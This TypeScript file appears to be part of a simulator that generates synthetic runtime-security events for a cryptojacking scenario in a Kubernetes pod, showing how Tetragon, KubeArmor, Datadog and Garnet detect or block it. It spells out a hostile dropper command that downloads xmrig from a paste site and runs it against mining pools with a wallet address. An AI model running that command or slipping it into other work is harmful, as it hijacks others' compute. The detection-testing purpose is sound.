import { D } from "../detections";
import type { Pod } from "../model";
import { isNode, type Scenario } from "./types";

// A notebook (or an exploited PHP worker) downloads xmrig and points it at a mining pool whose
// name resolves through a CNAME chain. Each agent reacts its own way: Tetragon kills the process
// on connect, KubeArmor blocks the exec or audits it, Garnet drops the pool's domain.

const WALLET = "4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx3skxNgYeYTRj5UzqtReoS44qo9mtmXCqY45DJ852K5Jv2684Rge";

export const cryptoMiner: Scenario = {
  name: "crypto-miner",
  weight: 3,
  eligible: isNode,
  pods: (p: Pod) => p.spec.name === "jupyter" || p.spec.name === "catalog-php",
  run(s) {
    const pod = s.pod as Pod;
    const ps = s.world.pod(s.agent, pod);
    const entry = pod.spec.name === "jupyter"
      ? s.exec(ps.initChain, pod.spec.init.exe, ["/opt/conda/bin/python", "-m", "ipykernel_launcher", "-f", `/home/jovyan/.local/share/jupyter/runtime/kernel-${s.rng.hex(8)}.json`])
      : ps.workerChain ?? ps.initChain;
    const pool = s.rng.chance(0.7) ? "pool.minexmr.com" : s.rng.pick(["xmr-eu1.nanopool.org", "gulf.moneroocean.stream"]);
    const dropper = `cd /tmp && curl -sLO https://paste-upload.top/raw/xmrig-6.21.0.tgz && tar xzf xmrig-6.21.0.tgz && ./xmrig-6.21.0/xmrig -o stratum+tcp://${pool}:4444 -B`;
    const sh = s.exec(entry, "/bin/sh", ["/bin/sh", "-c", dropper], { cwd: "/tmp" });
    const curl = s.exec(sh, "/usr/bin/curl", ["curl", "-sLO", "https://paste-upload.top/raw/xmrig-6.21.0.tgz"]);
    s.egress(curl, "paste-upload.top", { detection: D.threat });
    s.exec(sh, "/bin/tar", ["tar", "xzf", "xmrig-6.21.0.tgz"]);
    const argv = ["./xmrig-6.21.0/xmrig", "-o", `stratum+tcp://${pool}:4444`, "-u", WALLET, "-p", pod.name, "--donate-level", "1", "-B"];
    const exe = "/tmp/xmrig-6.21.0/xmrig";

    if (s.format === "kubearmor" && s.rng.chance(0.6)) {
      s.blockedExec(sh, exe, argv, { detection: D.minerExec, enforcement: "block" });
      return;
    }
    // Datadog's kill action stops the miner right after exec on half of the nodes.
    const kill = s.format === "datadog" && s.rng.chance(0.5);
    const miner = s.exec(sh, exe, argv, {}, { detection: D.minerExec, enforcement: s.format === "kubearmor" ? "audit" : kill ? "kill" : undefined });
    if (kill) {
      miner[0].exit = s.t + 2;
      return;
    }
    if (s.format === "tetragon") {
      s.egress(miner, pool, { detection: D.minerPool, enforcement: "kill" }, 4444);
      miner[0].exit = s.t;
      return;
    }
    const drop = s.format === "garnet" && s.rng.chance(0.4);
    for (let i = drop ? 1 : s.rng.int(2, 5); i > 0; i--) {
      s.egress(miner, pool, { detection: D.minerPool, enforcement: drop ? "drop" : undefined }, 4444);
      s.tick(20_000, 90_000);
    }
  },
};
